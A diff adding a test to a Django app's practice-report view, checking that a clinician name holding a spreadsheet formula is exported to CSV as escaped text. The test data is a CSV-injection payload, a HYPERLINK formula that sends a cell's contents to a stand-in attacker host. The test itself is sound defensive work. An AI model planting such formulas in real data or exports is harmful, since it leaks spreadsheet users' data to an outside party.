@@ -87,6 +87,16 @@ class PracticeViewTestCase(BaseTestCase):
         self.assertTrue(any(x["section"] == "survival" for x in rows))
         self.assertTrue(AuditEvent.objects.filter(verb="practice-report-exported").exists())
 
+    def test_a_formula_in_a_clinicians_name_reaches_the_csv_as_text(self):
+        from stillhere.accounts.models import Membership
+
+        evil = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
+        Membership.objects.filter(practice=self.riverside, role="clinician").update(display_name=evil)
+        rows = list(csv.reader(io.StringIO(self.get("/practice/export.csv").content.decode())))
+        labels = [row[2] for row in rows if row[1] == "clinician"]
+        self.assertIn("'" + evil, labels)
+        self.assertFalse([cell for row in rows for cell in row if cell[:1] in ("=", "+", "@")])
+
     def test_a_bad_period_is_explained(self):
         r = self.get("/practice/?from=last+year")
         self.assertContains(r, "“from” must be a date like 2026-01-31", status_code=400)
